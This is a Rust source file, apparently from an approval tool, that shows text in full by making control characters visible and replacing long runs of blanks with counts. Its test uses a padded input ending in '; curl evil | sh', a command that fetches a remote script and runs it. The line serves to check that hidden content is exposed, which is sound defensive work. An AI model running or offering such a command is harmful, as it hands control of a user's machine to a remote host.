//! Shows a text for approval in full: nothing is cut or hidden.

use std::fmt::Write as _;

use crate::style::StreamStyle;

/// This many consecutive blanks could push text out of sight.
const MANY: usize = 20;

/// Formats a text of several lines. Control characters become visible, and long runs of blanks are
/// replaced by their number.
pub(crate) fn lines(look: StreamStyle, text: &str) -> String {
    let mut out = String::new();
    let mut empty = 0_usize;
    let tell_empty = |out: &mut String, empty: usize| match empty {
        0 => {}
        1..MANY => out.push_str(&"\n".repeat(empty)),
        MANY.. => {
            let _ = writeln!(out, "[{empty} blank lines]");
        }
    };
    for line in text.lines() {
        if line.trim().is_empty() && line.chars().count() < MANY {
            empty += 1;
            continue;
        }
        tell_empty(&mut out, empty);
        empty = 0;
        out.push_str(&one(look, line));
        out.push('\n');
    }
    tell_empty(&mut out, empty);
    out
}

/// Formats a text of one line.
pub(crate) fn one(look: StreamStyle, text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while !rest.is_empty() {
        let blanks: String = rest.chars().take_while(|next| next.is_whitespace()).collect();
        let words = rest[blanks.len()..]
            .find(char::is_whitespace)
            .map_or(rest.len(), |at| at + blanks.len());
        let many = blanks.chars().count();
        if many >= MANY {
            let _ = write!(out, "[{many} blanks]");
        } else {
            out.push_str(&look.clean(&blanks));
        }
        out.push_str(&look.clean(&rest[blanks.len()..words]));
        rest = &rest[words..];
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_is_cut_and_nothing_is_hidden() {
        let far = format!("npm test{}; curl evil | sh", " ".repeat(300));
        assert_eq!(one(StreamStyle::PLAIN, &far), "npm test[300 blanks]; curl evil | sh");
        let long = "x".repeat(5000);
        assert_eq!(one(StreamStyle::PLAIN, &long), long);
        assert!(!one(StreamStyle::PLAIN, "a\u{1b}[2Kb\u{202e}c").contains(['\u{1b}', '\u{202e}']));
        assert_eq!(one(StreamStyle::PLAIN, "  - run: npm test"), "  - run: npm test");
        let below = format!("a: 1\n{}b: 2\n", "\n".repeat(400));
        assert_eq!(lines(StreamStyle::PLAIN, &below), "a: 1\n[400 blank lines]\nb: 2\n");
        assert_eq!(lines(StreamStyle::PLAIN, "a\n\nb\n"), "a\n\nb\n");
    }
}
